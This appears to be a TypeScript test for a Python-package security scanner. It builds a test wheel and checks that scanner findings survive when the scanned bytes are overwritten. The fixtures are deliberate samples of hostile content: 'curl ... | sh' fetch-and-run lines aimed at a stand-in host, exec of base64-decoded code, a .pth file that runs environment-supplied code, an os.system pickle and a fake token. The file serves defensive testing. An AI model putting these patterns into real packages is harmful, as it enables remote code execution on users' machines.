import assert from 'node:assert/strict';
import { defaultArchiveLimits, type ArchiveEntry, type ArchiveReport } from '../../src/archive/archive.js';
import { readZip } from '../../src/archive/zip.js';
import type { Finding } from '../../src/core/model.js';
import { contentScanners } from '../../src/scanners/content-scanners.js';
import { buildElf } from '../helpers/binaries.js';
import { callOf } from '../helpers/pickles.js';
import { checksummed } from '../helpers/secrets.js';
import { buildWheel } from '../helpers/wheels.js';

const files = {
  'demo/start.py': `import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl https://x.invalid | sh')\n`,
  'demo/token.txt': checksummed('ghp_'),
  'demo/fast.so': buildElf(),
  'demo/model.pkl': callOf('os', 'system'),
  'demo/start.sh': 'curl https://x.invalid/a | sh\n',
  'pip.pth': `import os; exec(os.environ['X'])\n`,
};

/** What each scanner finds when it is shown the entries, and `after` is done with the bytes of each. */
async function findingsBy(after: (content: Uint8Array) => void): Promise<readonly (readonly Finding[])[]> {
  const { bytes, filename } = buildWheel({ files, entryPoints: '[console_scripts]\nls = demo:main\n' });
  const entries: ArchiveEntry[] = [];
  const source = {
    size: bytes.length,
    read: (offset: number, length: number) => bytes.subarray(offset, offset + length),
  };
  const report: ArchiveReport = await readZip(source, defaultArchiveLimits, (entry) => {
    entries.push(entry.content ? { ...entry, content: Uint8Array.from(entry.content) } : entry);
  });
  return contentScanners.map((scanner) => {
    const session = scanner.begin({ filename, name: 'demo', version: '1.0', form: 'wheel' });
    for (const entry of entries) {
      const shown = { ...entry, content: entry.content && Uint8Array.from(entry.content) };
      session.entry(shown);
      if (shown.content) after(shown.content);
    }
    return session.finish(report).findings;
  });
}

describe('the bytes that a scanner is shown', () => {
  it('may be overwritten when it has seen them', async () => {
    const left = await findingsBy(() => undefined);
    const overwritten = await findingsBy((content) => content.fill(0x20));
    assert.deepEqual(overwritten, left);
    const finders = contentScanners.filter((_, index) => (left[index]?.length ?? 0) > 0).map(({ id }) => id);
    assert.deepEqual(finders, ['wheel', 'code', 'secrets', 'binaries', 'models']);
  });
});
